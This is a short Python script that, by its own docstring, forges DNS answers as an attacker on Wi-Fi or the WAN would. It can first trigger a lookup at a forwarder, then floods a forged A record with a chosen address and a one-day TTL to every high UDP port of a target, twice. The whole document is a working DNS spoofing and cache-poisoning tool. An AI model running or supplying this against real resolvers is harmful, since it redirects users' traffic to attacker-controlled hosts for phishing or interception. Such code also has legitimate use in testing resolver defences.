#!/usr/bin/env python3
"""Forged DNS answers, as an attacker on the Wi-Fi or the WAN would send them.

dns_forge.py TARGET ID NAME ADDRESS [ASK]

TARGET "-" only asks. With ASK, first asks the forwarder at ASK:53 for NAME (type A) under id ID. Then sends an answer
"NAME A ADDRESS, TTL 1 day" with id ID to every UDP port of TARGET, twice over.
"""
import socket
import struct
import sys


def wire_name(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"


def main():
    target, qid, name, address = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    question = wire_name(name) + struct.pack("!HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if len(sys.argv) > 5:
        s.sendto(struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + question, (sys.argv[5], 53))
    answer = (
        struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0)
        + question
        + b"\xc0\x0c"
        + struct.pack("!HHIH", 1, 1, 86400, 4)
        + socket.inet_aton(address)
    )
    if target == "-":
        return
    for _ in range(2):
        for port in range(1024, 65536):
            try:
                s.sendto(answer, (target, port))
            except OSError:
                pass


main()
